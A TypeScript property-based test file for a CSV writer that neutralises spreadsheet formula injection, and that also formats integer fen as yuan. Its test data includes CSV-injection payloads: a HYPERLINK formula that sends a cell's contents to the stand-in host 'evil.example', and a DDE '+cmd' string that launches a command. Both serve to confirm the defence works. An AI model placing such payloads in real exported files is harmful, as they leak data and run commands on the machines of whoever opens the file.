// The project's one CSV writer: whatever text a cell holds, a CSV reader gets
// it back unchanged (but for the apostrophe that keeps a formula-like cell
// from running), and no cell reaches a spreadsheet starting with a formula
// character (issue 10 section 5).
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_LINE_END, FORMULA_NEUTRALISER, UTF8_BOM, csvCell, csvRow, fenToYuanText } from './csv.js';

const SEED = 20_261_210;
const FORMULA_CHARACTERS = ['=', '+', '-', '@', '\t', '\r'];

/** Text that leans on what a CSV writer gets wrong: formula starts, quotes, separators, line breaks. */
const trickyText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.constantFrom(...FORMULA_CHARACTERS, '"', ',', '\n', "'", ' ', ''), fc.string({ unit: 'binary', maxLength: 12 }), fc.constantFrom('', '"', ',', '\r\n', '\n', '\r'))
    .map(([start, middle, end]) => `${start}${middle}${end}`),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'),
);

function readBack(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: true, skip_empty_lines: false }) as string[][];
}

describe('the CSV writer', () => {
  it('gives back every cell as written, a formula-like one behind an apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.array(trickyText, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const text = UTF8_BOM + rows.map((cells) => csvRow(cells)).join('');
        const back = readBack(text);
        const expected = rows.map((cells) => cells.map((c) => (FORMULA_CHARACTERS.includes(c.charAt(0)) ? `${FORMULA_NEUTRALISER}${c}` : c)));
        expect(back).toEqual(expected);
        for (const cell of back.flat()) expect(FORMULA_CHARACTERS).not.toContain(cell.charAt(0));
      }),
      { seed: SEED, numRuns: 2_000 },
    );
  });

  it('neutralises the payloads of the bank-file finding', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csvCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell('张三')).toBe('张三');
  });

  it('writes whole non-negative numbers as they are and refuses others', () => {
    expect(csvRow([5500, 0, null, undefined, ''])).toBe(`5500,0,,,${CSV_LINE_END}`);
    expect(() => csvCell(-1)).toThrow(RangeError);
    expect(() => csvCell(1.5)).toThrow(RangeError);
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });

  it('writes yuan with two decimals from integer fen', () => {
    expect(fenToYuanText(5500)).toBe('55.00');
    expect(fenToYuanText(7)).toBe('0.07');
    expect(fenToYuanText(0)).toBe('0.00');
    expect(fenToYuanText(123_456_789)).toBe('1234567.89');
    expect(() => fenToYuanText(1.5)).toThrow(RangeError);
    expect(() => fenToYuanText(-1)).toThrow(RangeError);
  });
});
